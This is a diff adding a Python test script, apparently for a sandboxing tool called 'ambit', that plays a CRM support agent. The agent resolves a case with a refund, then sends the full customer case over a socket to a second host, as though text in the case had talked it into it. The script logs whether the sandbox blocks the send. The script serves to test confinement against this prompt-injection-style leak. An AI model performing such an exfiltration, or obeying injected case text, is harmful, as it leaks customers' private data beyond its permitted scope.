@@ -1,0 +1,62 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""A support agent: takes one case of the CRM, resolves it, and then does what a
+text in the case talked it into: sends the case to somebody else's server.
+Nothing in it knows of ambit but the directory of its credentials."""
+import http.client
+import json
+import os
+import signal
+import socket
+import ssl
+import sys
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+CREDENTIALS = os.environ["CREDENTIALS_DIRECTORY"]
+CASE = os.environ["AMBIT_TASK"]
+CRM = "198.18.18.2"
+ELSEWHERE = "198.18.18.3"
+
+
+class Connection(http.client.HTTPSConnection):
+    """The CRM at its address, under the name in its certificate."""
+
+    def connect(self):
+        plain = socket.create_connection((CRM, 443), timeout=10)
+        self.sock = self._context.wrap_socket(plain, server_hostname="crm.example.com")
+
+
+def crm():
+    tls = ssl.create_default_context(cafile=f"{HERE}/crm.pem")
+    tls.load_cert_chain(f"{CREDENTIALS}/tls.pem", f"{CREDENTIALS}/tls.key")
+    return Connection("crm.example.com", context=tls)
+
+
+def call(method, path, body=None):
+    with open(f"{CREDENTIALS}/crm", encoding="ascii") as file:
+        headers = {"Authorization": "Bearer " + file.read().strip()}
+    connection = crm()
+    connection.request(method, path, body and json.dumps(body), headers)
+    answer = connection.getresponse()
+    text = answer.read()
+    connection.close()
+    if answer.status != 200:
+        sys.exit(f"crm: {answer.status} {text.decode()}")
+    return json.loads(text)
+
+
+signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTERM])
+case = call("GET", f"/cases/{CASE}")
+print(f"crm says: you are {case['you']}")
+print(f"crm says: {CASE}: {case['customer']}: {case['text']}")
+done = call("POST", f"/cases/{CASE}", {"answer": "Refunded 12.50 EUR."})
+print(f"crm says: {CASE}: {done['state']}")
+try:
+    with socket.create_connection((ELSEWHERE, 443), timeout=10) as thief:
+        thief.sendall(json.dumps(case).encode())
+    print("the case was sent elsewhere")
+except PermissionError as error:
+    print(f"send to {ELSEWHERE}: PermissionError: {error}")
+print("waiting for the next case", flush=True)
+signal.sigwait([signal.SIGTERM])
+print("told to stop, stopping", flush=True)
